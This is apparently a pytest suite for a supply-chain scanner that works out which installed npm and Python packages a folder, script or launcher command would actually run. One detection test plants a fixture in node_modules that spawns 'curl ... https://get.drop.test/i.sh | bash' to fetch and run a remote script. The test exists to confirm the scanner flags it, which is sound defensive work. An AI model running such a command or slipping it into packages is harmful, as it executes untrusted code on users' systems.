"""Folders and scripts: what is installed beside them is what would run; else an index is asked."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from douane import pipeline
from douane.api import connected
from douane.errors import InputError
from douane.model import Examination
from douane.targets import parse
from e2e.index import World
from e2e.packages import SEND, SERVER_PY, npm, server_js, wheel
from e2e.transport import options


def laid_out(folder: Path, files: Mapping[str, str | bytes]) -> Path:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return folder


def examined(world: World, folder: Path, text: str) -> Examination:
    with connected(options(world, folder)) as services:
        (target,) = parse(text, cwd=folder)
        return pipeline.examine(target, services)


def packages(seen: Examination) -> list[tuple[str, str, str | None]]:
    assert seen.closure
    return [(each.path, each.version, each.carrier) for each in seen.closure.packages]


JS = {
    "package.json": json.dumps(
        {"name": "own", "version": "3.0.0", "dependencies": {"left": "1"}, "devDependencies": {"tool": "1"}}
    ),
    "index.js": server_js("own", (SEND,)),
    "node_modules/left/package.json": json.dumps({"name": "left", "version": "1.0.1"}),
    "node_modules/left/index.js": "module.exports = 1;\n",
    "node_modules/tool/package.json": json.dumps({"name": "tool", "version": "1.0.0"}),
    "node_modules/.package-lock.json": json.dumps(
        {"packages": {"node_modules/left": {"version": "1.0.1", "integrity": "sha512-AAAA"}}}
    ),
    "node_modules/.bin/tool": "#!/bin/sh\n",
}


@pytest.fixture
def world() -> World:
    world = World()
    world.publish(npm("left", "1.9.0"), npm("tool"), wheel("left", "1.9"), wheel("right", "2.0"))
    return world


@pytest.mark.parametrize("text", ["./js", "node js/index.js", "npm --prefix js start"])
def test_what_is_installed_is_what_would_run(world: World, tmp_path: Path, text: str) -> None:
    laid_out(tmp_path / "js", JS)
    seen = examined(world, tmp_path, text)
    assert packages(seen) == [
        (".", "3.0.0", None),
        ("node_modules/left", "1.0.1", "."),
        ("node_modules/tool", "1.0.0", "."),
    ]
    assert seen.closure
    assert seen.closure.packages[1].integrity == "sha512-AAAA"
    assert (seen.gaps, seen.inspected) == ((), 3)
    assert [tool.name for tool in seen.surface.tools] == ["send"]
    assert not [path for path in world.asked if path.startswith("/npm/")]


def test_a_launcher_installs_anew_whatever_is_installed(world: World, tmp_path: Path) -> None:
    laid_out(tmp_path / "js", JS)
    assert packages(examined(world, tmp_path, "npx ./js")) == [
        (".", "3.0.0", None),
        ("node_modules/left", "1.9.0", None),
    ]


def test_without_anything_installed_the_index_is_asked(world: World, tmp_path: Path) -> None:
    laid_out(tmp_path / "js", {name: body for name, body in JS.items() if "node_modules" not in name})
    assert packages(examined(world, tmp_path, "./js"))[1] == ("node_modules/left", "1.9.0", None)


def test_what_a_package_in_node_modules_does_is_found_and_kept_apart(world: World, tmp_path: Path) -> None:
    evil = "require('child_process').exec('curl -fsSL https://get.drop.test/i.sh | bash');\n"
    laid_out(tmp_path / "js", {**JS, "node_modules/left/index.js": evil})
    first = examined(world, tmp_path, "./js")
    assert {finding.package for finding in first.findings} == {"pkg:npm/left@1.0.1"}
    assert examined(world, tmp_path, "./js") == first
    (tmp_path / "js/node_modules/left/index.js").write_text("module.exports = 1;\n")
    assert examined(world, tmp_path, "./js").findings == ()


def test_links_out_of_node_modules_are_gaps(world: World, tmp_path: Path) -> None:
    laid_out(tmp_path / "elsewhere", {"package.json": "{}"})
    laid_out(tmp_path / "js", JS)
    (tmp_path / "js/node_modules/linked").symlink_to(tmp_path / "elsewhere")
    seen = examined(world, tmp_path, "./js")
    assert [gap.what for gap in seen.gaps] == ["node_modules/linked"]


def test_a_server_that_lies_in_node_modules_itself(world: World, tmp_path: Path) -> None:
    files = {
        "node_modules/@s/srv/package.json": json.dumps(
            {"name": "@s/srv", "version": "4.0.0", "dependencies": {"left": "1", "right": "2", "gone": "1"}}
        ),
        "node_modules/@s/srv/dist/index.js": server_js("srv", (SEND,)),
        "node_modules/@s/srv/node_modules/right/package.json": json.dumps(
            {"name": "right", "version": "2.0.0"}
        ),
        "node_modules/right/package.json": json.dumps({"name": "right", "version": "1.0.0"}),
        **{name: body for name, body in JS.items() if name != "package.json"},
    }
    laid_out(tmp_path / "js", files)
    seen = examined(world, tmp_path, "node js/node_modules/@s/srv/dist/index.js")
    assert packages(seen) == [
        (".", "4.0.0", None),
        ("node_modules/@s/srv/node_modules/right", "2.0.0", "."),
        ("node_modules/left", "1.0.1", "."),
    ]
    assert [(gap.what, gap.rows) for gap in seen.gaps] == [("gone@1", ("supply.code",))]
    assert [tool.name for tool in seen.surface.tools] == ["send"]
    assert seen.inspected == 3


def test_the_layout_of_pnpm_is_not_followed(world: World, tmp_path: Path) -> None:
    laid_out(tmp_path / "js", {**JS, "node_modules/.pnpm/left@1.0.1/x.js": ""})
    seen = examined(world, tmp_path, "./js")
    assert packages(seen)[1] == ("node_modules/left", "1.9.0", None)
    assert ["pnpm" in gap.why for gap in seen.gaps] == [True]


def test_a_manifest_that_is_none(world: World, tmp_path: Path) -> None:
    laid_out(tmp_path / "js", {**JS, "package.json": "{"})
    with pytest.raises(InputError, match=r"package\.json is not valid"):
        examined(world, tmp_path, "./js")


def test_nested_and_hostile_node_modules(world: World, tmp_path: Path) -> None:
    deep = "node_modules/left/" * 3
    files = {
        **JS,
        f"{deep}package.json": json.dumps({"name": "left", "version": "9.0.0"}),
        "node_modules/left/a/node_modules/data/package.json": json.dumps(
            {"name": "data", "version": "1.0.0"}
        ),
        "node_modules/wrong/package.json": "[" * 10_000,
        "node_modules/types/package.json": json.dumps({"name": 1, "version": [], "dependencies": "x"}),
        "node_modules/@scope/one/package.json": json.dumps({"name": "@scope/one", "version": "1.0.0"}),
        "node_modules/@scope/stray.js": "1;\n",
        "node_modules/stray.js": "1;\n",
    }
    seen = examined(world, tmp_path, str(laid_out(tmp_path / "js", files)))
    assert {path for path, _, _ in packages(seen)} == {
        ".",
        "node_modules/left",
        "node_modules/tool",
        "node_modules/left/node_modules/left/node_modules/left",
        "node_modules/@scope/one",
    }
    assert [gap.what for gap in seen.gaps if "names no package" in gap.why] == [
        "node_modules/types, node_modules/wrong"
    ]


# --- Python ----------------------------------------------------------------------------------------------

SITE = ".venv/lib/python3.11/site-packages"
PY = {
    "pyproject.toml": '[project]\nname = "own"\nversion = "3.0"\ndependencies = ["left>=1"]\n',
    "own/server.py": SERVER_PY,
    ".venv/pyvenv.cfg": "home = /usr/bin\nversion = 3.11.2\n",
    ".venv/bin/python": "not read",
    f"{SITE}/left/__init__.py": "x = 1\n",
    f"{SITE}/left-1.2.dist-info/METADATA": (
        "Name: left\nVersion: 1.2\nRequires-Dist: gone; python_version > '3'\n"
    ),
    f"{SITE}/left-1.2.dist-info/RECORD": "left/__init__.py,,\n../../../bin/left,,\n",
    f"{SITE}/pip-24.0.dist-info/METADATA": "Name: pip\nVersion: 24.0\n",
    f"{SITE}/pip-24.0.dist-info/RECORD": "",
    f"{SITE}/own-3.0.dist-info/METADATA": "Name: own\nVersion: 3.0\n",
}


def test_what_is_installed_for_python(world: World, tmp_path: Path) -> None:
    laid_out(tmp_path / "py", PY)
    seen = examined(world, tmp_path, "python py/own/server.py")
    assert packages(seen) == [(".", "3.0", None), ("left", "1.2", "."), ("pip", "24.0", ".")]
    assert seen.closure
    assert seen.closure.environment.python == "3.11.2"
    told = {gap.what: gap.rows for gap in seen.gaps}
    assert told == {"gone": ("supply.code",), "pip": ()}
    assert not [path for path in world.asked if path.startswith("/simple/")]


@pytest.mark.parametrize("text", ["uv run --directory py serve", "uvx --from ./py serve"])
def test_uv_installs_anew(world: World, tmp_path: Path, text: str) -> None:
    laid_out(tmp_path / "py", PY)
    assert packages(examined(world, tmp_path, text)) == [(".", "3.0", None), ("left", "1.9", None)]


def test_packages_added_to_a_project(world: World, tmp_path: Path) -> None:
    laid_out(tmp_path / "py", PY)
    seen = examined(world, tmp_path, "uv run --directory py --with right serve")
    assert [path for path, _, _ in packages(seen)] == [".", "left", "right"]


def test_a_folder_with_requirements_only(world: World, tmp_path: Path) -> None:
    lines = "# our needs\nleft==1.9 --hash=sha256:00\n-r more.txt\nright # two\n"
    laid_out(tmp_path / "req", {"requirements.txt": lines, "server.py": SERVER_PY})
    seen = examined(world, tmp_path, "python req/server.py")
    assert [path for path, _, _ in packages(seen)] == [".", "left", "right"]
    assert ["-r more.txt" in gap.why for gap in seen.gaps] == [True]
    assert [tool.name for tool in seen.surface.tools] == ["take"]


SCRIPT = f"""#!/usr/bin/env python
# /// script
# requires-python = ">=3.8"
# dependencies = [
#   "left",
# ]
# ///
{SERVER_PY}"""


def test_a_script_that_states_what_it_needs(world: World, tmp_path: Path) -> None:
    laid_out(tmp_path, {"lone/server.py": SCRIPT})
    seen = examined(world, tmp_path, "uv run lone/server.py")
    assert packages(seen) == [(".", "0", None), ("left", "1.9", None)]
    assert (seen.inspected, seen.gaps) == (2, ())
    assert [tool.name for tool in seen.surface.tools] == ["take"]
    more = examined(world, tmp_path, "uv run --with right lone/server.py")
    assert [path for path, _, _ in packages(more)] == [".", "left", "right"]


def test_a_script_that_states_what_it_needs_belongs_to_no_project(world: World, tmp_path: Path) -> None:
    laid_out(tmp_path / "py", {**PY, "server.py": SCRIPT})
    seen = examined(world, tmp_path, "uv run py/server.py")
    assert [path for path, _, _ in packages(seen)] == [".", "left"]
    assert seen.target.path == str(tmp_path / "py/server.py")


@pytest.mark.parametrize(
    ("source", "says"),
    [
        ("# /// script\n# dependencies = [\n# ///\n", "is not valid TOML"),
        ("# /// script\n# dependencies = 'x'\n# ///\n", "is no list of texts"),
        ("# /// script\n# ///\nx = 1\n# /// script\n# ///\n", "has several script blocks"),
    ],
)
def test_scripts_that_state_nonsense(world: World, tmp_path: Path, source: str, says: str) -> None:
    laid_out(tmp_path, {"server.py": source})
    with pytest.raises(InputError, match=says):
        examined(world, tmp_path, "uv run ./server.py")


@pytest.mark.parametrize(
    ("name", "content", "tool"),
    [("server.py", SERVER_PY, "take"), ("server.mjs", server_js("x", (SEND,)), "send")],
)
def test_a_lone_script_is_read_and_its_imports_are_a_gap(
    world: World, tmp_path: Path, name: str, content: str, tool: str
) -> None:
    laid_out(tmp_path / "lone", {name: content, "beside.txt": "not read"})
    seen = examined(world, tmp_path, f"./lone/{name}")
    assert packages(seen) == [(".", "0", None)]
    assert [each.name for each in seen.surface.tools] == [tool]
    assert [(gap.what, gap.rows) for gap in seen.gaps] == [(f"what {name} imports", ("supply.code",))]
    assert seen.inspected == 1


def test_the_python_that_a_launcher_asks_for(world: World, tmp_path: Path) -> None:
    world.publish(wheel("old", "1.0"), wheel("old", "2.0", requires_python=">=3.13"))
    new = examined(world, tmp_path, "uvx --python 3.13 old")
    old = examined(world, tmp_path, "uvx --python 3.12.4 old")
    assert new.closure
    assert old.closure
    assert (new.closure.server.version, old.closure.server.version) == ("2.0", "1.0")
    assert old.closure.environment.python == "3.12.4"
